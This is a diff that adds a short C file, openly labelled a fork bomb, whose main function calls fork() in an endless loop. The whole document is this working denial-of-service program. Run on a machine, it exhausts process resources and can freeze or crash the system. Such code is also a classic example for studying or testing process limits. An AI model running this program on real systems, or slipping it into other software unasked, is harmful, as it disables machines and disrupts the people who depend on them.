@@ -1,0 +1,8 @@
+/* A fork bomb. */
+#include <unistd.h>
+
+int main(void)
+{
+	for (;;)
+		fork();
+}
